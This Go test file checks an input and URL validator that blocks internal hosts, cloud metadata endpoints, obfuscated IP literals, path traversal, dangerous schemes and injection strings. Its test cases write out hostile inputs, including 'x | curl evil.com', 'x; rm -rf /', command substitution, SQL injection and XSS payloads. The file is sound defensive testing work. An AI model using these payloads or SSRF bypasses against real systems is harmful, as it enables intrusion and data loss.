package security

import (
	"errors"
	"testing"
)

func newTestValidator() *Validator {
	return New(2048, true)
}

func rejectCategory(t *testing.T, err error) string {
	t.Helper()
	if err == nil {
		t.Fatal("expected rejection, got nil")
	}
	var re *RejectError
	if !errors.As(err, &re) {
		t.Fatalf("expected *RejectError, got %T: %v", err, err)
	}
	return re.Category
}

func TestScreenURLAllowsCleanURLs(t *testing.T) {
	v := newTestValidator()

	urls := []string{
		"https://video.cdn.example/x.mp4",
		"http://example.com/path/to/file?x=1&y=2",
		"https://sub.domain.example.org:8443/media.webm",
		"https://example.com/watch?v=abc_123-XYZ",
	}
	for _, raw := range urls {
		u, err := v.ScreenURL(raw)
		if err != nil {
			t.Errorf("ScreenURL(%q) rejected clean URL: %v", raw, err)
			continue
		}
		if u.String() != raw {
			t.Errorf("ScreenURL(%q) parsed to %q", raw, u.String())
		}
	}
}

func TestScreenURLBlocksInternalHosts(t *testing.T) {
	v := newTestValidator()

	tests := []struct {
		name string
		url  string
	}{
		{"loopback", "http://127.0.0.1/admin"},
		{"loopback range", "http://127.1.2.3/x"},
		{"localhost", "http://localhost:8080/x"},
		{"localhost trailing dot", "http://localhost./x"},
		{"internal suffix trailing dot", "http://db.prod.internal./x"},
		{"rfc1918 10", "http://10.0.0.5/x"},
		{"rfc1918 172", "http://172.16.0.1/x"},
		{"rfc1918 172 high", "http://172.31.255.255/x"},
		{"rfc1918 192", "http://192.168.1.1/x"},
		{"link local metadata", "http://169.254.169.254/latest/meta-data"},
		{"metadata hostname", "http://metadata.google.internal/computeMetadata"},
		{"internal suffix", "http://db.prod.internal/x"},
		{"local suffix", "http://printer.local/x"},
		{"this network", "http://0.0.0.0/x"},
		{"cgnat", "http://100.64.0.1/x"},
		{"ipv6 loopback", "http://[::1]/x"},
		{"ipv6 ula", "http://[fc00::1]/x"},
		{"ipv6 ula fd", "http://[fd12:3456::1]/x"},
		{"ipv6 link local", "http://[fe80::1]/x"},
		{"ipv6 mapped loopback", "http://[::ffff:127.0.0.1]/x"},
		{"decimal literal", "http://2130706433/x"},       // 127.0.0.1
		{"decimal metadata", "http://2852039166/x"},      // 169.254.169.254
		{"hex literal", "http://0x7f000001/x"},           // 127.0.0.1
		{"octal literal", "http://017700000001/x"},       // 127.0.0.1
		{"hex dotted", "http://0x7f.0.0.1/x"},            // 127.0.0.1
		{"octal dotted", "http://0177.0.0.1/x"},          // 127.0.0.1
		{"mixed dotted", "http://0xa9.254.169.254/menu"}, // 169.254.x
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := v.ScreenURL(tt.url)
			if cat := rejectCategory(t, err); cat != CategoryHost {
				t.Errorf("ScreenURL(%q) category = %q, want %q", tt.url, cat, CategoryHost)
			}
		})
	}
}

func TestScreenURLBlocksSchemes(t *testing.T) {
	v := newTestValidator()

	tests := []struct {
		name string
		url  string
	}{
		{"file", "file:///etc/passwd"},
		{"ftp", "ftp://example.com/x"},
		{"gopher", "gopher://example.com/x"},
		{"dict", "dict://example.com/x"},
		{"data", "data:text/html,<b>x</b>"},
		{"javascript", "javascript:alert(1)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := v.ScreenURL(tt.url); err == nil {
				t.Errorf("ScreenURL(%q) allowed forbidden scheme", tt.url)
			}
		})
	}
}

func TestScreenURLRejectsRawIPHosts(t *testing.T) {
	v := newTestValidator()
	if _, err := v.ScreenURL("http://8.8.8.8/file.mp4"); err == nil {
		t.Error("ScreenURL() allowed raw public IP with requireDomain=true")
	}

	lax := New(2048, false)
	if _, err := lax.ScreenURL("http://8.8.8.8/file.mp4"); err != nil {
		t.Errorf("ScreenURL() rejected public IP with requireDomain=false: %v", err)
	}
	if _, err := lax.ScreenURL("http://10.0.0.1/file.mp4"); err == nil {
		t.Error("ScreenURL() allowed private IP with requireDomain=false")
	}
}

func TestScreenRejectsTraversal(t *testing.T) {
	v := newTestValidator()

	tests := []struct {
		name  string
		input string
	}{
		{"plain", "../../etc/passwd"},
		{"backslash", "..\\windows\\system32"},
		{"single encoded", "%2e%2e%2fetc%2fpasswd"},
		{"double encoded", "%252e%252e%252fetc"},
		{"triple encoded", "%25252e%25252e%25252f"},
		{"overlong utf8", "\xc0\xae\xc0\xae/etc"},
		{"overlong utf8 long form", "\xe0\x80\xae\xe0\x80\xae/x"},
		{"encoded overlong", "%c0%ae%c0%ae/etc"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if cat := rejectCategory(t, v.Screen(tt.input)); cat != CategoryTraversal {
				t.Errorf("Screen(%q) category = %q, want %q", tt.input, cat, CategoryTraversal)
			}
		})
	}
}

func TestScreenRejectsInjection(t *testing.T) {
	v := newTestValidator()

	tests := []struct {
		name     string
		input    string
		category string
	}{
		{"null byte", "abc%00def", CategoryControl},
		{"raw null", "abc\x00def", CategoryControl},
		{"crlf", "abc\r\nSet-Cookie: x", CategoryControl},
		{"encoded crlf", "abc%0d%0aLocation:evil", CategoryControl},
		{"backtick", "`id`", CategoryInjection},
		{"subshell", "$(whoami)", CategoryInjection},
		{"var expansion", "${IFS}cat", CategoryInjection},
		{"piped command", "x | curl evil.com", CategoryInjection},
		{"semicolon command", "x; rm -rf /", CategoryInjection},
		{"union select", "1 UNION SELECT password FROM users", CategoryInjection},
		{"or 1=1", "' OR '1'='1", CategoryInjection},
		{"script tag", "<script>alert(1)</script>", CategoryInjection},
		{"event handler", "x onerror=alert(1)", CategoryInjection},
		{"file scheme smuggled", "https://e.com/?next=file:///etc/passwd", CategoryScheme},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if cat := rejectCategory(t, v.Screen(tt.input)); cat != tt.category {
				t.Errorf("Screen(%q) category = %q, want %q", tt.input, cat, tt.category)
			}
		})
	}
}

func TestScreenFailsClosed(t *testing.T) {
	v := newTestValidator()

	if err := v.Screen(""); err == nil {
		t.Error("Screen(\"\") should reject")
	}
	// Invalid percent-encoding must reject, not pass through undecoded.
	if cat := rejectCategory(t, v.Screen("abc%zzdef")); cat != CategoryDecode {
		t.Errorf("Screen() on undecodable input category = %q, want %q", cat, CategoryDecode)
	}
	if _, err := v.ScreenURL("http://%41%2f"); err == nil {
		t.Error("ScreenURL() should reject ambiguous encoded authority")
	}
}

func TestScreenURLLengthBound(t *testing.T) {
	v := New(64, true)
	long := "https://example.com/" + string(make([]byte, 100))
	if _, err := v.ScreenURL(long); err == nil {
		t.Error("ScreenURL() allowed over-length URL")
	}
}

func TestDecodeFullyStabilizes(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  string
	}{
		{"no encoding", "plain", "plain"},
		{"single round", "a%20b", "a b"},
		{"double round", "a%2520b", "a b"},
		{"stable percent", "100%", "100%"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := decodeFully(tt.input)
			if err != nil {
				// "100%" is undecodable; fail-closed is also acceptable there.
				if tt.input == "100%" {
					return
				}
				t.Fatalf("decodeFully(%q) error: %v", tt.input, err)
			}
			if got != tt.want {
				t.Errorf("decodeFully(%q) = %q, want %q", tt.input, got, tt.want)
			}
		})
	}
}
